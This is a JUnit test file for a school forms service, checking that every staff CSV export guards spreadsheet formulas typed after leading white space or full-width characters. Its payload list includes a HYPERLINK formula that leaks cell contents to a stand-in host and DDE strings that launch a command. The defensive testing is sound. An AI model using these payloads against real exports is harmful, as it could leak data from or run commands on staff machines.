package org.polisi.forms.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.polisi.forms.Submissions.agreement;
import static org.polisi.forms.Submissions.consent;
import static org.polisi.forms.Submissions.incident;
import static org.polisi.forms.Submissions.reference;
import static org.polisi.forms.Submissions.with;
import static org.polisi.forms.TestServer.form;

import java.io.IOException;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.polisi.forms.TestDatabases;
import org.polisi.forms.TestServer;
import org.polisi.forms.storage.CanonicalJson;
import org.polisi.forms.storage.SubmissionDao;

/**
 * CSV injection (OWASP "CSV Injection", ASVS 5.0 1.2.10) after leading white space: a tester's
 * {@code " =HYPERLINK(…)"} reached the school office's spreadsheet as a live formula. Sent through
 * the real forms to a real server on both databases, then read back from every staff CSV export
 * (submissions, consents with the roster's classes, signatures) with Commons CSV: each such cell is
 * the stored answer behind one apostrophe, and the stored answer is what was typed.
 */
class CsvInjectionTest {

    /** Formulas behind white space a spreadsheet may trim, and full-width triggers. */
    static final List<String> HIDDEN_FORMULAS = List.of(
            " =HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
            "\t=HYPERLINK(\"http://evil.example\",\"tab\")",
            "\n@SUM(1+1)*cmd|' /C calc'!A0",
            "\u00A0\u00A0+1+cmd|' /C calc'!A0",
            "\u3000-1+1",
            "\u200B=1+1",
            "\uFF1DHYPERLINK(\"http://evil.example\")",
            "   \n\t =1+1");

    private static List<CSVRecord> csv(HttpResponse<String> response) throws IOException {
        assertEquals(200, response.statusCode(), response.body());
        return CSVFormat.DEFAULT.parse(new StringReader(response.body().substring(1))).getRecords();
    }

    /** The stored answer to {@code field} of a submission (a list's first value). */
    static String stored(TestServer server, String reference, String field) {
        Map<String, Object> fields = CanonicalJson.readFields(server.jdbi().withExtension(SubmissionDao.class,
                dao -> dao.findByReference(reference)).orElseThrow().fieldsJson());
        Object value = fields.get(field);
        return value instanceof List<?> list ? String.valueOf(list.get(0)) : String.valueOf(value);
    }

    @ParameterizedTest
    @MethodSource("org.polisi.forms.TestDatabases#both")
    void aFormulaAfterLeadingWhiteSpaceIsNeutralisedInEveryExport(TestDatabases.Kind kind, @TempDir Path folder)
            throws IOException {
        try (TestServer server = TestServer.start(folder, kind)) {
            server.addStaff("testschool", "Heledd Pennaeth", "head@test.example", "headteacher");
            TestServer.Browser parent = server.browser();
            for (String formula : HIDDEN_FORMULAS) {
                String incident = reference(parent.post("/forms/testschool/incident-report",
                        form(incident("en", "none", formula))));
                String typed = stored(server, incident, "what-happened");
                // what was typed, after NFC and the removal of control characters (a tab is one: ADR 0081)
                assertEquals(org.polisi.forms.text.TypedText.normalise(formula), typed, "the stored answer is what was typed");
            }
            String pupil = " =HYPERLINK(\"//evil.example\")";
            String consentReference = reference(parent.post("/forms/testschool/images-consent",
                    form(consent("en", pupil, "given", "refused"))));
            String signer = "\u00A0@SUM(1+1)";
            String agreementReference = reference(parent.post("/forms/testschool/parent-agreement",
                    form(with(agreement("en"), "parent-name", signer))));

            TestServer.Browser head = server.loggedIn("head@test.example");
            String storedPupil = stored(server, consentReference, "pupil-names");
            assertEquals(303, head.post("/staff/roster", form("csrf-token", head.csrf(), "roster-text",
                    "Pupil,Class\n\"" + storedPupil.replace("\"", "\"\"") + "\",\" -2+3\"\n")).statusCode());

            List<CSVRecord> submissions = csv(head.get("/staff/export.csv?form=incident-report"));
            int whatHappened = submissions.get(0).toList().indexOf("What happened");
            for (CSVRecord row : submissions.subList(1, submissions.size())) {
                String cell = row.get(whatHappened);
                assertEquals("'" + stored(server, row.get(0), "what-happened"), cell, "submissions export");
            }
            assertEquals(HIDDEN_FORMULAS.size(), submissions.size() - 1);

            List<CSVRecord> everyForm = csv(head.get("/staff/export.csv"));
            for (CSVRecord row : everyForm.subList(1, everyForm.size())) {
                for (String cell : row) {
                    assertFalse(SafeCsv.needsGuard(cell.isEmpty() ? "x" : cell), "every form's export: " + row);
                }
            }

            CSVRecord consentRow = csv(head.get("/staff/consents.csv")).stream()
                    .filter(row -> row.get(row.size() - 1).equals(consentReference)).findFirst().orElseThrow();
            assertEquals("'" + storedPupil, consentRow.get(0), "consents export: the pupil");
            String className = server.jdbi().withHandle(handle -> handle.createQuery(
                    "SELECT class_name FROM roster_pupil").mapTo(String.class).one());
            assertTrue(className.endsWith("-2+3"), className);
            assertEquals("'" + className, consentRow.get(1), "consents export: the roster's class");

            CSVRecord signature = csv(head.get("/staff/signatures.csv?form=parent-agreement")).stream()
                    .filter(row -> row.toList().contains(agreementReference)).findFirst().orElseThrow();
            assertEquals("'" + stored(server, agreementReference, "parent-name"), signature.get(0), "signatures export");
        }
    }

    @Test
    void onlyFormulasAreGuardedAndTheTextAfterTheGuardIsUnchanged() {
        for (String formula : HIDDEN_FORMULAS) {
            assertEquals("'" + formula, SafeCsv.cell(formula), formula);
        }
        for (String plain : List.of("Siân Jones", "a = b", "2+2", "  spaces then words", "e-mail@example.org",
                "\u00A0", "Dosbarth 3", "’=quoted")) {
            assertEquals(plain, SafeCsv.cell(plain), plain);
        }
        assertEquals("'\r=1", SafeCsv.cell("\r=1"));
        assertEquals("'\tplain", SafeCsv.cell("\tplain"), "a leading tab is guarded whatever follows (OWASP)");
        assertEquals("", SafeCsv.cell(null));
    }

    @Test
    void theStoredAnswerIsNeverChanged(@TempDir Path folder) {
        try (TestServer server = TestServer.start(folder)) {
            String formula = " =HYPERLINK(\"http://evil.example\")";
            String reference = reference(server.browser().post("/forms/testschool/incident-report",
                    form(incident("cy", "none", formula))));
            assertEquals(formula, stored(server, reference, "what-happened"));
            assertTrue(server.count("SELECT count(*) FROM submission WHERE fields_json LIKE '%''%'") == 0,
                    "no apostrophe reached the database");
        }
    }
}
